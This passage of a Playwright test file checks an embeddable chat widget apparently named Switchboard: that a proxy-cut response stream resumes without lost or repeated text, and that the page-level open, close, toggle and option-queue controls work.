    message = Message.objects.get(conversation__bot=bot, role="assistant")
    assert message.state == MessageState.CANCELLED and message.content.startswith("word0 word1 word2")
    assert answers(frame).first.locator(".flow").text_content() == message.content


def test_a_cut_stream_resumes_on_the_widget_api_without_losing_or_repeating_text(
    page, live_server_url, host_site, widget_bot, fake_llm, celery_worker
):
    """The frame's own turn client, with a session from the frame's ticket, reading a stream a
    proxy cuts after a few events."""
    from tests.fake_llm import TextReply

    bot = widget_bot()
    chunks = [f"piece{i} " for i in range(15)]
    fake_llm.script(TextReply(chunks=chunks, chunk_delay=0.04))
    frame = visit(page, host_site, live_server_url, bot)
    result = frame.evaluate(
        """async () => {
      const config = JSON.parse(document.getElementById("switchboard-widget-config").textContent);
      const started = await (await fetch("/widget/v1/sessions", { method: "POST",
        headers: { "Content-Type": "application/json" }, body: JSON.stringify({ ticket: config.ticket }) })).json();
"""
        + CUTTING_FETCH_JS
        + """      const seen = [];
      const client = new window.SwitchboardChat.TurnClient({
        apiRoot: "/widget/v1/", fetch: cuttingFetch, retryDelays: [100, 200, 400],
        authorization: () => ({ Authorization: "Bearer " + started.token }),
        onEvent: (name, data, id) => seen.push([id, name, data]) });
      await client.send("/widget/v1/chat", { message: "tell me", conversation_id: null, inputs: {} });
      return { seen, reconnects: client.reconnects, messageId: client.messageId };
    }"""
    )
    seen = result["seen"]
    ids = [entry_id for entry_id, _, _ in seen]
    assert len(ids) == len(set(ids)), "an event was delivered twice"
    assert result["reconnects"] == 1
    assert seen[0][1] == "message.start" and seen[-1][1] == "message.end"
    assert "".join(data["text"] for _, name, data in seen if name == "delta") == "".join(chunks)
    assert Message.objects.get(pk=result["messageId"]).content == "".join(chunks)


# -- the page's controls --------------------------------------------------------------------------------------


def test_the_page_opens_the_widget_on_load_and_drives_it_through_the_api(
    page, live_server_url, host_site, widget_bot, fake_llm, celery_worker
):
    from tests.fake_llm import TextReply

    bot = widget_bot(opening_message="Hello {{plan}} guest!", variables=[{"name": "plan", "default": "basic"}])
    page.add_init_script(OPEN_SHADOW)
    # Calls queued before the script loads: options, the variables, a handler.
    queued = (
        "<script>(window.Switchboard = window.Switchboard || {q: []}).q.push("
        '["setOptions", {title: "Front desk"}], ["setInputs", {plan: "gold"}]);</script>'
    )
    page.goto(
        host_site.page(
            "/", host_page(live_server_url, public_id(bot), before=RECORDER + queued, attributes=" data-open")
        )
    )
    wait_for_event(page, "open")
    frame = chat_frame(page)
    expect(frame.locator("h1")).to_have_text("Front desk")
    expect(frame.locator(".msg.opening")).to_have_text("Hello gold guest!")
    expect(page.locator(LAUNCHER)).to_have_attribute("aria-expanded", "true")

    fake_llm.script(TextReply("Welcome back."))
    send(frame, "hi")
    finished(frame, 1)
    assert Conversation.objects.get(bot=bot).inputs == {"plan": "gold"}

    page.evaluate("Switchboard.close()")
    expect(page.locator(LAUNCHER)).to_have_attribute("aria-expanded", "false")
    page.evaluate("Switchboard.toggle()")
    expect(page.locator(LAUNCHER)).to_have_attribute("aria-expanded", "true")
    page.evaluate("Switchboard.newConversation()")
    expect(frame.locator(".msg")).to_have_count(1)
    page.evaluate("Switchboard.toggle()")
    assert [name for name in events(page) if name in ("open", "close")] == ["open", "close", "open", "close"]
